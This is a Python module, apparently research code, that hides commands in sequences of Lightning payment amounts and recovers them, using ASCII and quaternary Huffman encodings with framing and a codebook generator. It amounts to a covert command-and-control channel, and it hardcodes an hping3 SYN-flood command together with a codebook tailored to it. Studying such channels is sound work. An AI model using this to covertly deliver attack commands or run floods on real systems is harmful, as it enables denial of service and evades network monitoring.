"""Command encodings carried in payment amounts.

Two schemes put a command into a stream of payment amounts framed by START
(5 sat) and END (6 sat). ``ascii`` sends one payment per character code,
``huffman`` sends one payment per quaternary digit (1-4). The ``noise``
scheme carries the whole command in one attached message and has no amount
stream.
"""

from __future__ import annotations

import heapq
import json
from collections import Counter
from dataclasses import dataclass
from typing import Dict, Iterable, List, Mapping, Optional, Sequence, Tuple

from .errors import EncodingError

START = 5
END = 6
SCHEMES = ("ascii", "huffman", "noise")

# canonical quaternary codebook for the SYN-flood command alphabet
_REFERENCE_CODES = {
    "s": "234", "n": "233", "o": "232", "h": "231", "d": "224", "g": "223",
    "c": "222", "9": "221", "6": "214", "2": "213", "3": "212", "u": "211",
    "p": "144", "i": "143", "8": "142", "0": "141", ".": "24", "1": "12",
    "-": "13", "E": "4", " ": "11", "S": "3",
}

SYN_FLOOD_COMMAND = "sudo hping3 -i u1 -S -p 80 -c 10 192.168.1.1"


@dataclass(frozen=True)
class Codebook:
    mapping: Tuple[Tuple[str, str], ...]
    radix: int = 4

    def __post_init__(self):
        digits = {str(d) for d in range(1, self.radix + 1)}
        chars = [c for c, _ in self.mapping]
        if len(set(chars)) != len(chars):
            raise EncodingError("codebook maps a character twice")
        words = [w for _, w in self.mapping]
        for c, w in self.mapping:
            if len(c) != 1:
                raise EncodingError(f"codebook key {c!r} is not a single character")
            if not w or set(w) - digits:
                raise EncodingError(f"codeword {w!r} for {c!r} uses digits outside 1..{self.radix}")
        ordered = sorted(words)
        for a, b in zip(ordered, ordered[1:]):
            if b.startswith(a):
                raise EncodingError(f"codeword {a!r} is a prefix of {b!r}")

    @classmethod
    def from_dict(cls, mapping: Mapping[str, str], radix: int = 4) -> "Codebook":
        return cls(tuple(mapping.items()), radix)

    def as_dict(self) -> Dict[str, str]:
        return dict(self.mapping)

    def decoder(self) -> Dict[str, str]:
        return {w: c for c, w in self.mapping}

    def kraft_sum(self) -> float:
        return sum(self.radix ** -len(w) for _, w in self.mapping)

    def to_text(self) -> str:
        return "".join(f"{json.dumps(c)}\t{w}\n" for c, w in self.mapping)

    @classmethod
    def from_text(cls, text: str, radix: int = 4) -> "Codebook":
        pairs = []
        for lineno, line in enumerate(text.splitlines(), start=1):
            if not line.strip():
                continue
            try:
                raw, word = line.rsplit("\t", 1)
                pairs.append((json.loads(raw), word.strip()))
            except ValueError as exc:
                raise EncodingError(f"codebook line {lineno}: {exc}") from None
        return cls(tuple(pairs), radix)


REFERENCE_CODEBOOK = Codebook.from_dict(_REFERENCE_CODES)


@dataclass(frozen=True)
class EncodedCommand:
    scheme: str
    amounts_sat: Tuple[int, ...]
    body: str

    START = START
    END = END

    @property
    def payments(self) -> int:
        return len(self.amounts_sat)

    @property
    def total_sat(self) -> int:
        return sum(self.amounts_sat)

    def framed(self) -> List[int]:
        return frame(self)


def encode_ascii(command: str) -> EncodedCommand:
    amounts = []
    for i, ch in enumerate(command):
        code = ord(ch)
        if code > 127:
            raise EncodingError(f"character {ch!r} at position {i} is not 7-bit ASCII")
        amounts.append(code)
    return EncodedCommand("ascii", tuple(amounts), command)


def encode_huffman(command: str, codebook: Codebook = REFERENCE_CODEBOOK) -> EncodedCommand:
    table = codebook.as_dict()
    amounts = []
    for i, ch in enumerate(command):
        try:
            amounts.extend(int(d) for d in table[ch])
        except KeyError:
            raise EncodingError(f"character {ch!r} at position {i} has no codeword") from None
    return EncodedCommand("huffman", tuple(amounts), command)


def encode(command: str, scheme: str, codebook: Codebook = REFERENCE_CODEBOOK) -> EncodedCommand:
    if scheme == "ascii":
        return encode_ascii(command)
    if scheme == "huffman":
        return encode_huffman(command, codebook)
    if scheme == "noise":
        return EncodedCommand("noise", (), command)
    raise EncodingError(f"unknown scheme {scheme!r}")


def frame(encoded: EncodedCommand) -> List[int]:
    """START, payload amounts, END. In ascii frames a literal 6 is sent twice."""
    if encoded.scheme == "noise":
        raise EncodingError("noise commands are not amount-framed")
    body: List[int] = []
    for a in encoded.amounts_sat:
        body.append(a)
        if encoded.scheme == "ascii" and a == END:
            body.append(END)
    return [START] + body + [END]


# ---------- decoding ----------

@dataclass(frozen=True)
class Frame:
    offset: int  # index of the START amount in the observed stream
    status: str  # ok | corrupted | pending | abandoned
    command: Optional[str] = None
    reason: str = ""


class DecodedStream(list):
    """Commands decoded from complete, well-formed frames; every frame in ``frames``."""

    def __init__(self, frames: Sequence[Frame]):
        super().__init__(f.command for f in frames if f.status == "ok")
        self.frames = list(frames)

    @property
    def corrupted(self) -> List[Frame]:
        return [f for f in self.frames if f.status == "corrupted"]

    @property
    def pending(self) -> List[Frame]:
        return [f for f in self.frames if f.status == "pending"]


def _decode_huffman_digits(digits: Sequence[int], decoder: Mapping[str, str]) -> Tuple[Optional[str], str]:
    out, cur = [], ""
    longest = max((len(w) for w in decoder), default=0)
    for d in digits:
        cur += str(d)
        if cur in decoder:
            out.append(decoder[cur])
            cur = ""
        elif len(cur) >= longest:
            return None, f"digit run {cur!r} matches no codeword"
    if cur:
        return None, f"trailing digits {cur!r} are not a complete codeword"
    return "".join(out), ""


def decode_stream(observed: Iterable[int], scheme: str, codebook: Codebook = REFERENCE_CODEBOOK,
                  times: Optional[Sequence[int]] = None,
                  gap_ms: Optional[int] = None) -> DecodedStream:
    """Scan ``observed`` amounts for START...END frames and decode each one.

    Amounts outside a frame are ignored. Inside a huffman frame a START
    abandons the open frame (reported corrupted) and opens a new one; any
    other non-digit marks the frame corrupted and it runs to the next END.
    With ``times`` and ``gap_ms``, a frame silent for longer than ``gap_ms``
    is dropped as abandoned and scanning resumes at the late amount; this is
    how a receiver recovers from a sender that restarted the command.
    """
    if scheme not in ("ascii", "huffman"):
        raise EncodingError(f"scheme {scheme!r} has no amount stream")
    amounts = list(observed)
    if times is not None and len(times) != len(amounts):
        raise ValueError("times and amounts differ in length")
    decoder = codebook.decoder()
    digits = {str(d) for d in range(1, codebook.radix + 1)}
    frames: List[Frame] = []
    i, n = 0, len(amounts)

    def stalled(j):
        return (gap_ms is not None and times is not None and j > 0
                and times[j] - times[j - 1] > gap_ms)

    while i < n:
        if amounts[i] != START:
            i += 1
            continue
        start = i
        i += 1
        body: List[int] = []
        bad = ""
        status = None
        while i < n:
            a = amounts[i]
            if stalled(i):
                status = "abandoned"
                break
            if a == END:
                if scheme == "ascii" and i + 1 < n and amounts[i + 1] == END and not stalled(i + 1):
                    body.append(END)
                    i += 2
                    continue
                status = "closed"
                i += 1
                break
            if scheme == "huffman" and a == START:
                status = "restarted"
                break
            if not bad:
                if scheme == "ascii" and not 0 <= a <= 127:
                    bad = f"amount {a} at offset {i} is not a character code"
                elif scheme == "huffman" and str(a) not in digits:
                    bad = f"amount {a} at offset {i} is not a code digit"
            body.append(a)
            i += 1
        if status is None:
            frames.append(Frame(start, "pending", None, "no END observed yet"))
            break
        if status == "abandoned":
            frames.append(Frame(start, "abandoned", None, f"silent for more than {gap_ms} ms"))
            continue
        if status == "restarted":
            frames.append(Frame(start, "corrupted", None, f"START at offset {i} inside a frame"))
            continue
        if bad:
            frames.append(Frame(start, "corrupted", None, bad))
        elif scheme == "ascii":
            frames.append(Frame(start, "ok", "".join(chr(a) for a in body)))
        else:
            text, why = _decode_huffman_digits(body, decoder)
            if text is None:
                frames.append(Frame(start, "corrupted", None, why))
            else:
                frames.append(Frame(start, "ok", text))
    return DecodedStream(frames)


# ---------- codebook construction ----------

def generate_codebook(frequencies: Mapping[str, int], radix: int = 4) -> Codebook:
    """r-ary Huffman code; ties broken by first appearance in ``frequencies``."""
    if not frequencies:
        raise EncodingError("frequency table is empty")
    symbols = list(frequencies)
    if len(symbols) == 1:
        return Codebook(((symbols[0], "1"),), radix)
    # heap items: (weight, tiebreak, symbols-in-subtree)
    heap = [(frequencies[s], i, [s]) for i, s in enumerate(symbols)]
    counter = len(heap)
    while (len(heap) - 1) % (radix - 1):
        heap.append((0, counter, []))  # dummy leaf
        counter += 1
    heapq.heapify(heap)
    codes = {s: "" for s in symbols}
    while len(heap) > 1:
        weight, merged = 0, []
        for digit in range(radix, 0, -1):
            w, _, syms = heapq.heappop(heap)
            for s in syms:
                codes[s] = str(digit) + codes[s]
            weight += w
            merged.extend(syms)
        heapq.heappush(heap, (weight, counter, merged))
        counter += 1
    return Codebook(tuple((s, codes[s]) for s in symbols), radix)


def frequencies_of(text: str) -> Dict[str, int]:
    return dict(Counter(text))
